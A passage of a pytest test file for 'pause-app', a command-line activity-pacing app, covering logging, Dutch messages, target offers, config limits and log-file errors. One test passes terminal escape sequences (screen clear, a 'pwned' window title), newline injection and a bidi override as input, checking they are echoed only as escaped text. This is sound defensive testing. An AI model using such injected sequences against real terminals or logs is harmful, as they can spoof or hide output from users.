    assert json.loads(run("offer", "Steps inside", "--json")[1])["reason"] == "offer"
    code, out, _ = run("maintenance", "--help")
    assert "hold:" in out and "grow:" in out


def test_lang_works_after_the_command_too(run) -> None:
    code, _, err = run("log", "Nope", "5", "--felt", "good", "--lang", "nl")
    assert code == 2
    assert err == "pause-app: Naam: er is geen activiteit met de naam “Nope”.\n"
    code, out, _ = run("log", "--help", "--lang", "nl")
    assert code == 0 and "hoe het voelde" in out


def test_a_small_target_is_offered_one_unit(run) -> None:
    _diary(run, [(f"2026-03-{d:02d}", "5", "good") for d in range(9, 16)], target="5")
    out = run("offer", "Steps inside")[1]
    assert out == (
        "A next step could be from 5 to 6 steps. Only if it feels right; saying no is fine too.\n"
    )
    assert run("accept", "Steps inside")[0] == 0
    answer = json.loads(run("offer", "Steps inside", "--json")[1])
    assert (answer["reason"], answer["earliest"]) == ("too_soon", "2026-03-22")  # a week


def test_the_big_day_threshold_is_a_setting(run) -> None:
    assert run("config", "set", "pacing.big_day_percent", "150")[0] == 0
    code, _, err = run("config", "set", "pacing.big_day_percent", "100")
    assert code == 2 and "from 110 to 200" in err
    _diary(run, [])
    code, out, _ = run("log", "Steps inside", "70", "--felt", "good")  # 140%: below 150
    assert "I did it!" in out


@pytest.mark.parametrize(
    ("argv", "shown"),
    [
        (("config", "set", "ui.theme", "\x1b[2J"), "\\x1b[2j"),
        (("config", "get", "\x1b]0;pwned\x07"), "\\x1b]0;pwned\\x07"),
        (("log", "Walk", "5", "--felt", "ok", "extra\nline"), "extra\\nline"),
        (("config", "set", "ui.theme", b"\xff".decode("utf-8", "surrogateescape")), "\\udcff"),
        (("config", "set", "ui.theme", "dark\u202e"), "\\u202e"),
    ],
)
def test_what_is_echoed_in_a_refusal_is_one_line_of_plain_text(run, argv, shown) -> None:
    """A typed escape sequence reaches the terminal as text, never as a command to it."""
    code, out, err = run(*argv)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and shown in err
    assert not [ch for ch in err[:-1] if ord(ch) < 32 or 0xD800 <= ord(ch) < 0xE000]


def test_a_log_file_that_cannot_be_written_is_said_once_and_the_command_goes_on(
    run, pause_home: AppPaths
) -> None:
    pause_home.create()
    pause_home.log_file.parent.mkdir(parents=True, exist_ok=True)
    pause_home.log_file.mkdir()  # a folder where the log file goes
    code, out, err = run("activity", "list")
    assert code == 0 and "No activities yet" in out
    assert len(err.splitlines()) == 1 and "cannot be written" in err and "Traceback" not in err


def test_an_activity_without_a_target_is_not_listed_as_target_zero(run) -> None:
    assert run("activity", "add", "Reading", "--unit", "minutes")[0] == 0
    code, out, _ = run("activity", "list")
    assert code == 0 and "target 0" not in out
    assert "Reading: no target yet (a week of logs first), today –" in out
